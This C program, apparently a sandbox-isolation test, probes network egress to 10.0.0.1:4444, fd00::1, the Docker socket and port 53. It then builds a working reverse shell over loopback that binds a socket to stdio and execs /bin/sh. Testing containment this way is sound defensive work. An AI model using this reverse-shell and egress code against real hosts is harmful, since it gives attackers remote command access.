/* Reverse-shell pattern. 1) connect to 10.0.0.1:4444 (fails: --network none).
 * 2) a loopback listener in a child, connect to it, dup2 the socket onto 0,1,2, exec /bin/sh. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET; a.sin_port = htons(4444); inet_pton(AF_INET, "10.0.0.1", &a.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) perror("connect 10.0.0.1");
  close(s);
  struct sockaddr_in6 a6 = {0};
  a6.sin6_family = AF_INET6; a6.sin6_port = htons(4444); inet_pton(AF_INET6, "fd00::1", &a6.sin6_addr);
  int s6 = socket(AF_INET6, SOCK_STREAM, 0);
  if (connect(s6, (struct sockaddr *)&a6, sizeof a6) < 0) perror("connect fd00::1");
  close(s6);
  struct sockaddr_un u = {0};
  u.sun_family = AF_UNIX; strcpy(u.sun_path, "/var/run/docker.sock");
  int su = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(su, (struct sockaddr *)&u, sizeof u) < 0) perror("connect docker.sock");
  close(su);
  int du = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in d = a; d.sin_port = htons(53);
  sendto(du, "q", 1, 0, (struct sockaddr *)&d, sizeof d);
  close(du);

  int l = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in la = {0};
  la.sin_family = AF_INET; la.sin_port = htons(4444); la.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  bind(l, (struct sockaddr *)&la, sizeof la);
  listen(l, 1);
  pid_t srv = fork();
  if (srv == 0) {
    int c = accept(l, NULL, NULL);
    char buf[256];
    ssize_t n;
    while ((n = read(c, buf, sizeof buf)) > 0) write(1, buf, n);
    _exit(0);
  }
  close(l);
  int c = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(c, (struct sockaddr *)&la, sizeof la) < 0) { perror("connect lo"); return 1; }
  dup2(c, 0); dup2(c, 1); dup2(c, 2);
  if (c > 2) close(c);
  char *argv[] = {"/bin/sh", "-c", "echo shell-up; id", NULL};
  char *envp[] = {"PATH=/bin", "TERM=dumb", NULL};
  execve("/bin/sh", argv, envp);
  return 127;
}
